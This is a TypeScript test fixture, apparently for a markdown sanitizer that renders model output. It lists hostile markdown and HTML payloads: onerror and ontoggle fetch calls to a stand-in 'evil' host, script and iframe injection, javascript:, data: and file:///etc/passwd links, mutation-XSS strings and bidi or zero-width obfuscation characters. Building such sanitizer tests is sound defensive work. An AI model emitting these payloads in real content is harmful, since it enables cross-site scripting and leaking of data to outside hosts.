/** Model text that tries to load, run, hide or link something; `evil` is a URL that must never be requested. */
export function hostileMarkdown(evil: string): readonly string[] {
  return [
    `![pixel](${evil}/pixel.png) ![ref][image]\n\n[image]: ${evil}/ref.png "title"`,
    `[![inside](${evil}/badge.svg)](${evil}/target)`,
    `<img src="${evil}/img.png" srcset="${evil}/2x.png 2x" onerror="fetch('${evil}/onerror')">`,
    `<picture><source srcset="${evil}/source.webp"><img src="${evil}/picture.png"></picture>`,
    `<svg><image href="${evil}/svg.png"/><use href="${evil}/sprite.svg#a"/><script>fetch('${evil}/svg')</script></svg>`,
    `<math><mtext><img src="${evil}/math.png"></mtext></math>`,
    `<style>@import url(${evil}/style.css); body { background: url(${evil}/background.png) }</style>`,
    `<link rel="stylesheet" href="${evil}/link.css"><link rel="prefetch" href="${evil}/prefetch"><base href="${evil}/">`,
    `<iframe src="${evil}/frame"></iframe><object data="${evil}/object"></object><embed src="${evil}/embed">`,
    `<video poster="${evil}/poster.png" src="${evil}/video.mp4" autoplay></video><audio src="${evil}/audio.mp3"></audio>`,
    `<form action="${evil}/form"><input type="image" src="${evil}/input.png"></form><meta http-equiv="refresh" content="0;url=${evil}/meta">`,
    `<a href="${evil}/ping" ping="${evil}/pinged">a</a><body background="${evil}/body.png"><div style="background:url(${evil}/div.png)">d</div>`,
    `<script src="${evil}/script.js"></script><script>import('${evil}/module.js')</script>`,
    `[a](javascript:alert(1)) [b](data:text/html,<script>alert(1)</script>) [c](command:workbench.action.quit) [d](vscode://x/y) [e](file:///etc/passwd) [f](JaVaScRiPt:alert(1)) [g](//evil.example/x) [h](\u0001javascript:alert(1))`,
    `<javascript:alert(1)> <command:workbench.action.quit> <data:text/html,x>`,
    `![data](data:image/svg+xml;base64,PHN2ZyB4bWxucz0iaHR0cDovL3d3dy53My5vcmcvMjAwMC9zdmciIG9ubG9hZD0iYWxlcnQoMSkiLz4=)`,
    `\`\`\`mermaid\ngraph TD; A[<img src=${evil}/mermaid.png>]-->B\n\`\`\`\n\n\`\`\`html\n<img src="${evil}/code.png">\n\`\`\``,
    `| <img src="${evil}/cell.png"> | ![cell](${evil}/cell2.png) |\n|---|---|\n| $$\\includegraphics{${evil}/math.png}$$ | x |`,
    `<details open ontoggle="fetch('${evil}/toggle')"><summary>s</summary></details><x onclick=alert(1) tabindex=0 onfocus=alert(2) autofocus>`,
    `a\u202etxt.exe \u2066isolated\u2069 zero\u200bwidth \u001b[31mred tag\u{e0061}\u{e0062} blank\u3164letter`,
    `<noscript><p title="</noscript><img src=${evil}/mutation.png onerror=alert(1)>">`,
    `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=${evil}/mutation2.png onerror=alert(1)&gt;">`,
  ];
}
